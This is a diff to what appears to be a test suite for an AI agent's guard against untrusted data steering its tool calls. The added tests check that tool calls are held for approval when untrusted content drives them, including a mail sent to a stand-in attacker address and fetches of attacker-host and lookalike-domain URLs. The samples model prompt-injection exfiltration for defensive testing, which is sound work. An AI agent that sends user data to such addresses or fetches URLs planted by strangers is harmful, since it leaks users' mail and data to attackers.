@@ -171,6 +171,23 @@ describe('the rules of an agent', () => {
 		expect(await say(id)).toMatchObject({ status });
 	});
 
+	test('the targets of a function may be those of the user', async () => {
+		const metadata = { mail: 'ada@home.example.com' };
+		const { id } = await (await request('/v1/sessions', { agent: 'flow-near', metadata })).json<{ id: string }>();
+		play(learn, readMail, mail('ada@home.example.com'), mail());
+		expect(await say(id)).toMatchObject({
+			status: 'awaiting_tools',
+			toolCalls: [{ input: { to: 'eve@evil.example.com' } }],
+		});
+		expect(left).toHaveLength(1);
+	});
+
+	test('a function that throws names no targets', async () => {
+		const id = await create('flow-throws');
+		play(learn, readMail, mail('ada@home.example.com'));
+		expect(await say(id)).toMatchObject({ status: 'awaiting_tools' });
+	});
+
 	test('a call that sends nowhere runs', async () => {
 		const id = await create('flow-free');
 		play(learn, readMail, call('add_entry', { guests: [] }), call('add_entry', { guests: ['eve'] }, 'second'));
@@ -225,6 +242,24 @@ describe('an address', () => {
 			expect(await say(id, `Read ${page}.`)).toMatchObject({ status: 'awaiting_tools' });
 		},
 	);
+
+	test.each([
+		['https://news.example.com/composed?q=4711', 'completed'],
+		['https://evil.example.com/?q=4711', 'awaiting_tools'],
+		['https://news.example.com.evil.example.com/4711', 'awaiting_tools'],
+		['http://news.example.com/4711', 'awaiting_tools'],
+	])('of a site that a person named is read if the agent allows it: %s', async (url, status) => {
+		const id = await create('flow-near');
+		serveSite('news.example.com.evil.example.com', () => new Response('Thanks.'));
+		play(fetchPage(page), learn, readMail, fetchPage(url), 'Read.');
+		expect(await say(id, `Read ${page}.`)).toMatchObject({ status });
+	});
+
+	test('of a site that only a stranger named waits', async () => {
+		const id = await create('flow-near');
+		play(fetchPage(page), learn, readMail, fetchPage('https://news.example.com/?q=4711'), 'Read.');
+		expect(await say(id, 'Read the news.')).toMatchObject({ status: 'awaiting_tools' });
+	});
 
 	test('that a search repeats from its query counts as composed', async () => {
 		const id = await create();
@@ -412,6 +447,6 @@ test('a file that somebody gave is text of strangers', async () => {
 	play(learn, mail());
 	expect(await say(id)).toMatchObject({
 		status: 'awaiting_tools',
-		toolCalls: [{ flow: { outside: [{ what: /file/ }] } }],
+		toolCalls: [{ flow: { outside: [{ what: 'a file that somebody gave' }] } }],
 	});
 });
